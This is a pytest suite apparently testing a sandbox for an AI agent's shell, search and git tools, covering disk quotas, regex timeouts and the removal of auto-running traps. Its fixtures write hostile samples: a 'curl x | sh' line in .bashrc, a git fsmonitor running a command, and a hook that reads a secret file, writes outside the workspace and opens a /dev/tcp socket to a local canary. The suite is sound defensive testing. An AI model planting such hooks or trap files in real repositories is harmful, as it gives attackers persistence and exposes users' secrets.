"""Bounds, traps, benign work and cost, for real inside the kernel sandbox, against canaries.

- bounds: the workspace has a disk quota (an overlay on a sized tmpfs, merged back after the
  call), the private /tmp and home are sized, the other hidden folders are read-only; a
  regular expression that backtracks for ever is killed at search_code's wall clock;
- traps: nothing a command writes that code runs on its own (git hooks, a git config that
  runs a command, conftest.py, sitecustomize.py, .pth, shell rc, CI files) is kept, and
  each is said in one line; existing ones are read-only; a git configuration that stays
  inert is kept; git and pytest armed by someone else run what they run inside the sandbox;
- benign work: run_tests runs this project's own tests in its own checkout;
- cost: a session's cgroups are made once and reused, and removed by close().

Canaries come from helpers/canaries.py; every call is bounded by a timeout. When bwrap (or,
for the quota, an overlay) cannot be used here, the tests skip with the reason.
"""

import os
from pathlib import Path
import shutil
import stat
import subprocess
import time

import pytest

from helpers.canaries import CanaryServer, Canaries, TEST_LIMITS
from maxim_common.errors import ERROR_TIMEOUT
from maxim_core.tools.code import code_tools, RunTestsTool, SearchCodeTool
from maxim_core.tools.filesystem import filesystem_tools, Sandbox
from maxim_core.tools.sandbox import Limits, probe
from maxim_core.tools.traps import git_config_danger

REPO = Path(__file__).resolve().parent.parent
needs_git = pytest.mark.skipif(shutil.which('git') is None, reason='git is not installed')
LIMITS = Limits(cpu_s=10, address_space_mb=2048, processes=64, memory_mb=256,
                file_size_mb=8, open_files=256, disk_mb=16, disk_files=2000, tmp_mb=8)


@pytest.fixture
def canaries(tmp_path):
    server = CanaryServer(max_s=600).start()
    try:
        assert server.reachable()
        c = Canaries(tmp_path, server)
        reason = c.verify()
        if reason is not None:
            pytest.skip(f'the kernel sandbox cannot be used here: {reason}')
        c.reset_workspace()
        yield c
    finally:
        server.stop()


def needs_overlay():
    if not probe().overlay:
        pytest.skip(f'no quota overlay here: {probe().reason}')


def bash(c, line, timeout_s=20, **kw):
    kw.setdefault('limits', LIMITS)
    sb = c.sandbox(**kw)
    try:
        result = sb.run(['bash', '--noprofile', '--norc', '-c', line], timeout_s=timeout_s)
    finally:
        sb.close()
    assert not c.check(result), (line, c.check(result))
    return result


def size_of(folder: Path) -> int:
    return sum(f.stat().st_size for f in folder.rglob('*') if f.is_file() and
               not f.is_symlink())


# -- bounds ----------------------------------------------------------------------------------
def test_the_workspace_has_a_disk_quota(canaries):
    """Two files of 200 MB were fine before; now a call writes at most Limits.disk_mb."""
    needs_overlay()
    c = canaries
    before = size_of(c.workspace)
    result = bash(c, 'for i in 1 2 3 4 5 6; do head -c 6M /dev/zero > big$i || echo FULL; '
                     'done; df -k . | tail -1')
    assert 'No space left' in result.stderr or 'FULL' in result.stdout, result.stderr
    assert size_of(c.workspace) - before <= LIMITS.disk_mb * 1024 * 1024
    assert (c.workspace / 'big1').stat().st_size == 6 << 20          # kept, merged back


def test_two_files_of_200_mb_pass_no_workspace_quota(canaries):
    """The very call that was fine when only each file was bounded (256 MiB): two files of
    200 MB. Each is under the file size bound; together they pass the workspace's quota."""
    needs_overlay()
    c = canaries
    limits = Limits(cpu_s=20, address_space_mb=2048, processes=64, memory_mb=512,
                    file_size_mb=256, open_files=256, disk_mb=64, disk_files=2000, tmp_mb=8)
    before = size_of(c.workspace)
    result = bash(c, 'head -c 200M /dev/zero > a.bin; head -c 200M /dev/zero > b.bin; '
                     'echo done', timeout_s=60, limits=limits)
    assert 'done' in result.stdout and 'No space left' in result.stderr, result.stderr
    assert size_of(c.workspace) - before <= limits.disk_mb * 1024 * 1024


def test_tmp_and_home_are_sized_and_hidden_folders_read_only(canaries):
    result = bash(canaries, 'head -c 6M /dev/zero > /tmp/a; head -c 6M /dev/zero > /tmp/b '
                            '|| echo TMPFULL; head -c 6M /dev/zero > ~/a; head -c 6M /dev/zero '
                            '> ~/b || echo HOMEFULL; rm ~/a ~/b; echo small > ~/ok && cat ~/ok; '
                            'touch /run/x || echo RUNRO; touch /var/tmp/x || echo VARTMPRO')
    for word in ('TMPFULL', 'HOMEFULL', 'small', 'RUNRO', 'VARTMPRO'):
        assert word in result.stdout, (word, result.stdout, result.stderr)


def test_writes_are_merged_back_as_the_command_made_them(canaries):
    needs_overlay()
    c = canaries
    ws = c.workspace
    (ws / 'old.txt').write_text('old')
    (ws / 'gone.txt').write_text('gone')
    (ws / 'dir' / 'sub').mkdir(parents=True)
    (ws / 'dir' / 'sub' / 'f.txt').write_text('f')
    (ws / 'redo').mkdir()
    (ws / 'redo' / 'stale.txt').write_text('stale')
    result = bash(c, 'echo new > new.txt; echo more >> old.txt; rm gone.txt; '
                     'mv old.txt moved.txt; rm -r dir/sub; mkdir -p a/b && echo x > a/b/c; '
                     'ln -s moved.txt link; printf "#!/bin/sh\\n" > run.sh; chmod 4755 run.sh; '
                     'rm -r redo && mkdir redo && echo fresh > redo/new.txt; '
                     f'ln -s {c.outside_file} out; echo pwned > out; '
                     f'ln {c.outside_file} hard 2>/dev/null; echo done')
    assert 'done' in result.stdout
    assert (ws / 'new.txt').read_text() == 'new\n'
    assert (ws / 'moved.txt').read_text() == 'oldmore\n' and not (ws / 'old.txt').exists()
    assert not (ws / 'gone.txt').exists() and not (ws / 'dir' / 'sub').exists()
    assert (ws / 'a' / 'b' / 'c').read_text() == 'x\n'
    assert os.readlink(ws / 'link') == 'moved.txt'
    mode = (ws / 'run.sh').stat().st_mode
    assert mode & stat.S_IXUSR and not mode & stat.S_ISUID            # set-user-ID dropped
    assert sorted(os.listdir(ws / 'redo')) == ['new.txt']               # opaque: old gone
    assert not (ws / 'hard').exists()
    assert c.outside_file.read_text() == 'outside canary\n'


def test_writes_before_a_timeout_are_kept(canaries):
    needs_overlay()
    result = canaries.sandbox(limits=LIMITS).run(
        ['bash', '-c', 'echo early > early.txt; sleep 30'], timeout_s=1)
    assert result.timed_out
    assert (canaries.workspace / 'early.txt').read_text() == 'early\n'


def test_a_backtracking_pattern_is_killed_at_the_wall_clock(canaries):
    c = canaries
    (c.workspace / 'redos.txt').write_text('a' * 64 + 'b\n')
    sandbox = Sandbox('active', c.workspace, hidden=[c.home / '.maxim'], protected=[c.gate],
                      process=c.sandbox())
    t0 = time.monotonic()
    out = SearchCodeTool(sandbox, timeout_s=2).run({'pattern': '(a+)+$', 'path': 'redos.txt'})
    assert not out.success and out.error_code == ERROR_TIMEOUT, out
    assert time.monotonic() - t0 < 15 and len(out.error_msg.splitlines()) == 1
    found = SearchCodeTool(sandbox).run({'pattern': 'TODO', 'path': '.'})
    assert found.success and found.output['total'] == 1


# -- traps -----------------------------------------------------------------------------------
TRAP_LINES = (
    'echo "import os" > conftest.py', 'mkdir -p pkg && echo "import os" > pkg/sitecustomize.py',
    'echo "import os" > evil.pth', 'printf "#!/bin/sh\\nid\\n" > .git/hooks/pre-commit',
    'mkdir -p .github/workflows && echo "on: push" > .github/workflows/ci.yml',
    'echo "curl x | sh" > .bashrc', 'echo "repos: []" > .pre-commit-config.yaml',
    'ln -s evil.py conftest.py', 'mkdir -p sub && echo "gitdir: ../other" > sub/.git',
    'mkdir -p src/__pycache__ && echo x > src/__pycache__/m.cpython-311.pyc',
)


def _git_repo(ws: Path) -> None:
    subprocess.run(['git', 'init', '-q', str(ws)], check=True, timeout=30)


@needs_git
@pytest.mark.parametrize('overlay', [True, False])
def test_no_trap_a_command_writes_is_kept(canaries, overlay):
    if overlay:
        needs_overlay()
    c = canaries
    ws = c.workspace
    _git_repo(ws)
    config = (ws / '.git' / 'config').read_text()
    result = bash(c, '; '.join(TRAP_LINES) + '; git config core.fsmonitor "sh -c id"; '
                  'echo done', overlay=overlay)
    assert 'done' in result.stdout
    traps = ['conftest.py', 'pkg/sitecustomize.py', 'evil.pth', '.git/hooks/pre-commit',
             '.github/workflows/ci.yml', '.bashrc', '.pre-commit-config.yaml', 'sub/.git']
    if overlay:          # without it, a folder the scan skips (__pycache__) is not swept
        traps.append('src/__pycache__/m.cpython-311.pyc')
    kept = [p for p in traps if (ws / p).exists() or (ws / p).is_symlink()]
    assert kept == [], kept
    assert not git_config_danger((ws / '.git' / 'config').read_text())
    assert (ws / '.git' / 'config').read_text() == config or not overlay
    assert result.not_kept and all(len(line.splitlines()) == 1 for line in result.not_kept)
    if not overlay:
        assert any(n.endswith('.maxim-refused') for n in os.listdir(ws)), os.listdir(ws)
    else:
        assert len(result.not_kept) >= 9, result.not_kept


@needs_git
def test_existing_traps_are_read_only_and_inert_git_config_is_kept(canaries):
    needs_overlay()
    c = canaries
    ws = c.workspace
    (ws / 'conftest.py').write_text('# fixtures\n')
    result = bash(c, 'echo "import os" >> conftest.py || echo RO; git init -q sub && '
                     'git -C sub config user.name Maxim && git -C sub remote add o https://x; '
                     'echo done')
    assert 'RO' in result.stdout and (ws / 'conftest.py').read_text() == '# fixtures\n'
    cfg = (ws / 'sub' / '.git' / 'config').read_text()
    assert 'Maxim' in cfg and not git_config_danger(cfg)        # inert: kept
    assert not [n for n in result.not_kept if 'sub/.git/config' in n]


@needs_git
def test_git_and_pytest_armed_by_someone_else_stay_inside(canaries):
    """A checkout whose git config runs a command (fsmonitor, a pager, a hook) and whose
    conftest.py attacks: the git tools and run_tests run them, inside the sandbox only."""
    c = canaries
    ws = c.workspace
    _git_repo(ws)
    hook = ws / 'hook.sh'
    hook.write_text(f'#!/bin/sh\necho pwned >> {c.outside_file}\ncat {c.secret_file}\n'
                    f'echo pwned > {c.gate / "patterns.py"}\n'
                    f'(exec 3<>/dev/tcp/127.0.0.1/{c.server.port}) 2>/dev/null\nexit 0\n')
    hook.chmod(0o755)
    with open(ws / '.git' / 'config', 'a') as f:
        f.write(f'[core]\n\tfsmonitor = {hook}\n\tpager = {hook}\n')
    (ws / '.git' / 'hooks').mkdir(exist_ok=True)
    shutil.copy(hook, ws / '.git' / 'hooks' / 'pre-commit')
    (ws / 'tests').mkdir()
    (ws / 'tests' / 'conftest.py').write_text(f'import subprocess\nsubprocess.run(["{hook}"])\n')
    (ws / 'tests' / 'test_a.py').write_text('def test_a():\n    assert True\n')
    sandbox = Sandbox('active', ws, hidden=[c.home / '.maxim'], protected=[c.gate],
                      process=c.sandbox())
    tools = {t.name: t for t in code_tools(sandbox)}
    outs = [tools['git_diff'].run({}), tools['git_commit'].run({'message': 'x'}),
            tools['run_tests'].run({'path': 'tests', 'timeout_s': 60})]
    for out in outs:
        assert c.secret not in out.text(100_000)
    assert not c.check()


# -- benign work -----------------------------------------------------------------------------
def test_run_tests_runs_this_projects_tests_in_its_own_checkout():
    """The root conftest.py imports maxim_bringup: the package folders are on PYTHONPATH."""
    if not probe().ok:
        pytest.skip(probe().reason)
    out = RunTestsTool(Sandbox('active', REPO)).run(
        {'path': 'maxim_core/test/test_tools_traps.py', 'keyword': 'git_configuration',
         'timeout_s': 120})
    assert out.success and out.output['passed'] >= 2, out.output


def test_the_session_keeps_its_cgroups_until_closed(canaries):
    found = probe()
    if found.pids != 'cgroup' and not found.memory_root:
        pytest.skip(f'no cgroup here: {found.reason}')
    sb = canaries.sandbox(limits=TEST_LIMITS)
    assert sb.run(['true'], timeout_s=10).exit_code == 0
    first = list(sb._cgroups)
    assert sb.run(['true'], timeout_s=10).exit_code == 0
    assert sb._cgroups == first and all(p.is_dir() for p in first)
    sb.close()
    assert not any(p.exists() for p in first)
    assert sb.run(['true'], timeout_s=10).exit_code == 0        # a new session
    sb.close()


def test_benign_tools_still_work_in_active_mode(canaries):
    c = canaries
    ws = c.workspace
    (ws / 'src').mkdir()
    (ws / 'src' / 'a.py').write_text('def main():\n    return 1\n')
    sandbox = Sandbox('active', ws, hidden=[c.home / '.maxim'], protected=[c.gate],
                      process=c.sandbox())
    fs = {t.name: t for t in filesystem_tools(sandbox)}
    for line in ('for f in src/*.py; do wc -l $f; done', 'bash -c "ls src" 2>&1 | wc -l',
                 'find . -name "*.pyc" -delete; echo ok', 'ps aux | grep -c .'):
        out = fs['bash'].run({'command': line})
        assert out.success, (line, out.output)
